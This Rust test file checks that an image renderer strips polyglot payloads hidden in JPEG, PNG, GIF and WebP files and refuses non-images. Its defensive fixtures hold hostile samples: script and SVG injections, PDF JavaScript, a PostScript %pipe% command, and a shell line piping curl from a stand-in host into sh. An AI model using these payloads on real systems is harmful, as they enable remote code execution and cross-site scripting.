//! Files that are two things at once, or say that they are another: what is no photo is refused with a name
//! that tells what to do, and what is one leaves everything else behind.

use crate::pictures::{camera_jpeg, gif, lossless_webp, png, quadrants, render, rgb_png};
use png::{BitDepth, ColorType};

const SCRIPT: &[u8] = b"<html><body><script>document.write('taken over')</script></body></html>";
const ARCHIVE: &[u8] =
    b"PK\x03\x04\x14\0\0\0\0\0taken/over.class PK\x01\x02 PK\x05\x06 end of archive";
const DOCUMENT: &[u8] =
    b"%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>>>endobj";
const DRAWING: &[u8] = b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(document.domain)'/>";
const POSTSCRIPT: &[u8] =
    b"%!PS-Adobe-3.0 EPSF-3.0\n(%pipe%id > /tmp/taken-over) (w) file closefile";
const PROGRAM: &[u8] = b"#!/bin/sh\ncurl http://example.org/taken-over | sh\nexit 0 # and so on";
const PAYLOADS: [&[u8]; 6] = [SCRIPT, ARCHIVE, DOCUMENT, DRAWING, POSTSCRIPT, PROGRAM];

/// Whether any sixteen bytes of the payload in a row are in the output.
fn carries(output: &[u8], payload: &[u8]) -> bool {
    payload.windows(16).any(|part| memchr::memmem::find(output, part).is_some())
}

#[tokio::test]
async fn a_photo_that_is_something_else_as_well_leaves_that_behind() {
    let picture = quadrants(96, 64);
    for payload in PAYLOADS {
        let comment = |mut jpeg: Vec<u8>| {
            let length = u16::try_from(payload.len() + 2).unwrap().to_be_bytes();
            jpeg.splice(2..2, [&[0xff, 0xfe], length.as_slice(), payload].concat());
            jpeg
        };
        let text = String::from_utf8_lossy(payload).into_owned();
        let polyglots = [
            ("behind a JPEG", [&camera_jpeg(&picture, &[]), payload].concat()),
            ("in a JPEG comment", comment(camera_jpeg(&picture, &[]))),
            ("in a JPEG segment", camera_jpeg(&picture, &[(13, payload.to_vec())])),
            ("behind a PNG", [&rgb_png(&picture), payload].concat()),
            (
                "in a PNG text",
                png(picture.size, ColorType::Rgb, BitDepth::Eight, &picture.data, |info| {
                    info.utf8_text
                        .push(png::text_metadata::ITXtChunk::new("Comment", text.clone()));
                }),
            ),
            ("behind a GIF", [&gif(&picture), payload].concat()),
            (
                "in a WebP",
                lossless_webp(&picture, |encoder| {
                    encoder.set_xmp_metadata(payload.to_vec());
                }),
            ),
        ];
        for (where_, file) in polyglots {
            assert!(carries(&file, payload), "{where_}: nothing was hidden");
            let rendered =
                render(&file).await.unwrap_or_else(|failure| panic!("{where_}: {failure}"));
            for rendition in rendered.renditions() {
                assert!(!carries(&rendition.bytes, payload), "{where_}: {}", rendition.name);
            }
        }
    }
}

/// A text in pixels: a lossless picture whose samples are a script.
#[tokio::test]
async fn words_in_pixels_do_not_come_out_again() {
    let size = kith_media::Size { width: 64, height: 64 };
    let data: Vec<u8> = SCRIPT.iter().copied().cycle().take(64 * 64 * 3).collect();
    let file = png(size, ColorType::Rgb, BitDepth::Eight, &data, |_| {});
    for rendition in render(&file).await.unwrap().renditions() {
        assert!(!carries(&rendition.bytes, SCRIPT), "{}", rendition.name);
    }
}

#[tokio::test]
async fn a_payload_in_front_or_under_a_photos_first_bytes_is_no_photo() {
    let jpeg = camera_jpeg(&quadrants(96, 64), &[]);
    for payload in PAYLOADS {
        let before = [payload, &jpeg].concat();
        let failure = render(&before).await.unwrap_err();
        assert_eq!(failure.name(), "unsupported-type");
        assert!(failure.to_string().contains("send a JPEG, PNG, WebP, AVIF, HEIC or GIF file"));
        for (start, name) in [
            (b"\xff\xd8\xff\xe0".as_slice(), "damaged"),
            (b"\x89PNG\r\n\x1a\n", "damaged"),
            (b"RIFF\xff\0\0\0WEBP", "damaged"),
            (b"\0\0\0\x14ftypheic\0\0\0\0mif1", "damaged"),
            (b"\0\0\0\x14ftypavif\0\0\0\0mif1", "damaged"),
            (b"\0\0\0\x14ftypqt  \0\0\0\0qt  ", "unsupported-type"),
        ] {
            let failure = render(&[start, payload].concat()).await.unwrap_err();
            assert_eq!(failure.name(), name, "{start:?}");
        }
        // Whatever follows is read as a screen, its size among it.
        let failure = render(&[b"GIF89a".as_slice(), payload].concat()).await.unwrap_err();
        assert!(["damaged", "too-many-pixels"].contains(&failure.name()), "{failure:?}");
    }
}
